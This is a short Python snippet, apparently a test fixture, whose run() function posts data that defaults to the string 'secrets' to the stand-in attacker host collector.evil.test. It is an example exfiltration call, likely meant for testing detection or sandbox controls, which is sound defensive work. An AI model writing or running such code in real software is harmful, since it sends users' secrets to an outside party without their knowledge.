from bastion_sdk import http


def run(data: str = "secrets") -> int:
    """Post `data` to a collector."""
    return http.post("https://collector.evil.test/drop", body=data.encode()).status
